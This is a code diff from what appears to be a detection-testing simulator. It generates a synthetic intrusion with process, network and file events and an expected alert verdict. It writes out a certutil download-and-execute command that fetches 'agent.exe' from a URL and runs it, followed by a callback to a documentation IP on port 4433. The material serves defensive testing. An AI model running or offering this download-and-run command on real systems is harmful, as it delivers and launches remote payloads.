@@ -24,41 +24,44 @@ def _late(stage: Stage) -> None:
     record, born, raised = stage.recorder, clock("09:30:20.6110284"), clock("09:30:58.2041173")
     explorer = stage.estate.resident("srv-file-01", "explorer.exe")
     before = len(record.rows)
-    shell = record.start(explorer, program("windows", "cmd.exe"), "cmd.exe", at=born)
     agent = attacker("agent.exe", "C:\\ProgramData")
+    line = f"certutil.exe -urlcache -split -f {_URL} {agent.path}"
+    shell = record.start(
+        explorer, program("windows", "cmd.exe"), f"cmd.exe /c {line} && {agent.path}", at=born
+    )
     fetch = record.start(
         shell,
         program("windows", "certutil.exe"),
-        f"certutil.exe -urlcache -split -f {_URL} {agent.path}",
+        line,
         at=later(born, 4.4),
         life=3 * 10**8,
     )
     record.network(fetch, later(born, 4.9), ip="192.0.2.180", port=80, url=_URL)
     record.file(fetch, later(born, 6.2), "FileCreated", stage.drop(agent), origin=_URL)
-    run = record.start(fetch, agent, agent.path, at=later(born, 9.1), life=25 * SECOND)
+    run = record.start(shell, agent, agent.path, at=later(born, 9.1), life=25 * SECOND)
     record.network(run, later(born, 11.8), ip="192.0.2.180", port=4_433)
     for row in record.rows[before:]:
         row.arrives_after = round(stage.late_seconds + (raised - row.time) / SECOND, 3)
-    _alert_on_download(stage, fetch, born, raised)
+    _alert_on_download(stage, shell, born, raised)
 
 
-def _alert_on_download(stage: Stage, fetch: Process, born: int, raised: int) -> None:
+def _alert_on_download(stage: Stage, shell: Process, born: int, raised: int) -> None:
     stage.raise_alert(
         Case(
             title="Suspicious download with certutil",
             description="A system tool was used to fetch a program.",
             severity="Medium",
             category="CommandAndControl",
-            device=fetch.device,
-            first=fetch.created,
+            device=shell.device,
+            first=shell.created,
             last=later(born, 9.2),
             created=raised,
-            evidence=(process_evidence(fetch), user_evidence(OPERATOR)),
+            evidence=(process_evidence(shell), user_evidence(OPERATOR)),
             expected=Expectation(
                 "ExactProcess",
                 "Confirmed",
                 "The fetched program ran and called out.",
-                anchors=(fetch,),
+                anchors=(shell,),
                 techniques=("T1105",),
             ),
             incident=1057,
